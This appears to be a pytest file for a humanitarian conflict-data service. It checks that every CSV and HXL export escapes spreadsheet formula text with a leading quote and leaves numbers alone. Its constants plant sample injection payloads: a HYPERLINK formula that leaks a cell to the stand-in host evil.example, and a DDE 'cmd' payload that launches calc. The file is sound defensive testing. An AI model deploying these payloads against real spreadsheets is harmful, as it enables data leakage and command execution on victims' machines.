"""CSV (formula) injection: every CSV writer escapes text a spreadsheet would run, and leaves
numbers alone. Items f=csv and f=hxl (anonymous), an analysis table (f=csv) and
`truce etl quarantine export`, each with a planted row whose text starts with = @ + -."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from server.schemas.analysis import csv_example
from server.security.csv_cells import safe_cell
from server.services.analysis_input import to_csv

ITEMS = "/collections/incidents/items"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUM = "@SUM(1)"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
POINT = (36.60123, 34.60456)
WHEN = "2016-03-09T10:00:00Z"


def test_safe_cell_prefixes_formula_text_and_leaves_numbers() -> None:
    for value in (LINK, SUM, PLUS, MINUS, "\tx", "\rx", "-5"):
        assert safe_cell(value) == "'" + value
    for value in ("Aleppo", "", "'=already quoted", "#tag", "a=b", -36.5, -3, Decimal("-1.5"),
                  None, True):
        assert safe_cell(value) == value
    written = to_csv([{"name": SUM, "lon": -36.5, "n": -3}], ["name", "lon", "n"])
    assert written == "name,lon,n\n'@SUM(1),-36.5,-3\n"
    assert csv_example([{"name": LINK}], ["name"]).splitlines()[1].startswith("\"'=HYPERLINK")


@pytest.fixture(scope="module")
def planted(engine: Engine, sample_loaded: list[object]) -> Iterator[dict[str, int]]:
    """A released incident and an aid delivery at its place and time, with formula text."""
    with engine.begin() as conn:
        conn.execute(text("SELECT set_config('truce.actor', 'tests:csv', true)"))
        incident = int(conn.execute(text("""
            INSERT INTO incidents (source, source_id, occurred_at, event_type, fatalities,
                                   actor1, location_name, notes, verification_status,
                                   sensitivity, geom)
            VALUES ('csv-injection', :sid, :at, 'state_based_violence', 2, :actor, :place,
                    :notes, 'confirmed', 'public', ST_SetSRID(ST_MakePoint(:lon, :lat), 4326))
            RETURNING id"""), {"sid": MINUS, "at": WHEN, "actor": PLUS, "place": LINK,
                               "notes": SUM, "lon": POINT[0], "lat": POINT[1]}).scalar_one())
        delivery = int(conn.execute(text("""
            INSERT INTO aid_deliveries (source, source_id, delivered_at, method, cargo_type,
                                        organisation, location_name, geom)
            VALUES ('csv-injection', 'csv-1', :at, 'convoy', 'food', :org, :place,
                    ST_SetSRID(ST_MakePoint(:lon, :lat), 4326))
            RETURNING id"""), {"at": WHEN, "org": LINK, "place": SUM, "lon": POINT[0],
                               "lat": POINT[1]}).scalar_one())
    yield {"incident": incident, "delivery": delivery}
    with engine.begin() as conn:
        conn.execute(text("SELECT set_config('truce.actor', 'tests:csv', true)"))
        conn.execute(text("DELETE FROM aid_deliveries WHERE source = 'csv-injection'"))
        conn.execute(text("DELETE FROM incidents WHERE source = 'csv-injection'"))


def _rows(body: str, *, hxl: bool = False) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(body)))
    if hxl:
        assert all(v.startswith("#") or v == "" for v in rows[0].values())  # the tag row
        rows = rows[1:]
    return rows


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_items_csv_and_hxl_escape_formula_text(client: TestClient, planted: dict[str, int],
                                               fmt: str) -> None:
    response = client.get(ITEMS, params={"id": planted["incident"], "f": fmt})
    assert response.status_code == 200, response.text
    rows = _rows(response.text, hxl=fmt == "hxl")
    assert len(rows) == 1
    row = rows[0]
    assert row["location_name"] == "'" + LINK
    assert row["notes"] == "'" + SUM
    assert row["actor1"] == "'" + PLUS
    assert row["source_id"] == "'" + MINUS
    assert row["event_type"] == "state_based_violence"
    # numbers stay numbers
    assert float(row["lon"]) > 0 and float(row["lat"]) > 0 and row["fatalities"] == "2"
    assert row["id"] == str(planted["incident"])


def test_analysis_csv_escapes_formula_text(client: TestClient, planted: dict[str, int],
                                           api_keys: dict[str, str]) -> None:
    response = client.get("/analysis/aid-risk", params={
        "f": "csv", "distance_m": 100, "hours": 1, "datetime": "2016-03-09/2016-03-10"},
        headers={"X-API-Key": api_keys["analyst"]})
    assert response.status_code == 200, response.text
    rows = [r for r in _rows(response.text) if r["id"] == str(planted["delivery"])]
    assert len(rows) == 1
    assert rows[0]["organisation"] == "'" + LINK
    assert rows[0]["location_name"] == "'" + SUM
    assert float(rows[0]["nearest_incident_m"]) >= 0 and rows[0]["incidents"].isdigit()


def test_quarantine_export_escapes_formula_text(database_url: str, engine: Engine,
                                                sample_loaded: list[object],
                                                tmp_path: Path) -> None:
    source = tmp_path / "field.csv"
    with open(source, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Ref", "When", "What", "Y", "X", "@Note"],
                                      [LINK, "2016-06-01", SUM, "", "", MINUS]])
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text("source_id: Ref\noccurred_at: When\nevent_type: What\nlat: Y\nlon: X\n")
    env = {**os.environ, "TRUCE_DATABASE_URL": database_url}
    truce = [sys.executable, "-m", "cli.main", "etl"]
    target = tmp_path / "quarantine.csv"
    try:
        loaded = subprocess.run([*truce, "load", str(source), "--layer", "incidents",  # noqa: S603
                                 "--mapping", str(mapping), "--source", "etlt_csv_injection",
                                 "--json"], capture_output=True, text=True, timeout=180,
                                env=env, check=False)
        assert loaded.returncode == 0, loaded.stderr
        run_id = str(json.loads(loaded.stdout)["run_id"])
        done = subprocess.run([*truce, "quarantine", "export", str(target),  # noqa: S603
                               "--run", run_id], capture_output=True, text=True, timeout=180,
                              env=env, check=False)
        assert done.returncode == 0, done.stderr
        with open(target, newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        assert len(rows) == 1
        assert rows[0]["Ref"] == "'" + LINK and rows[0]["What"] == "'" + SUM
        assert rows[0]["'@Note"] == "'" + MINUS  # a raw column name is text from the file too
        assert rows[0]["quarantine_id"].isdigit() and rows[0]["record_number"] == "2"
    finally:
        with engine.begin() as conn:
            conn.execute(text("DELETE FROM quarantine WHERE source = 'etlt_csv_injection'"))
            conn.execute(text("DELETE FROM incidents WHERE source = 'etlt_csv_injection'"))
